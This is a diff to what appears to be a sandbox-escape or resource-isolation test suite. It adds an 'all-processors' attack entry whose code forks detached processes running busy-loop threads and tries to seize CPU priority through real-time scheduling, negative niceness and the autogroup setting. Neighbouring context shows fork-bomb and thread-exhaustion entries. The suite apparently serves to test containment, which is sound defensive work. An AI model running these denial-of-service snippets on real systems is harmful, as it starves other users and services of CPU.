@@ -129,6 +129,22 @@ else:
         with contextlib.suppress(OSError):
             os.fork()
 """, harms_itself=True),
+    Attack("all-processors", "the processors, for itself alone, by sessions, threads and priority", """
+def spin():
+    while True: pass
+for _ in range(30):
+    with contextlib.suppress(OSError):
+        if not os.fork():
+            os.setsid()
+            threading.Thread(target=spin).start()
+            spin()
+attempt("its turn before all others", lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)))
+attempt("more weight", lambda: os.setpriority(os.PRIO_PGRP, 0, -1))
+def more_for_its_session():
+    with open("/proc/self/autogroup", "w") as file:
+        file.write("-20")
+attempt("more weight for its session", more_for_its_session)
+""", earns=ALL, harms_itself=True, core=True),
     Attack("all-threads", "all threads that the machine can hold", """
 with contextlib.suppress(RuntimeError):
     for _ in range(500):
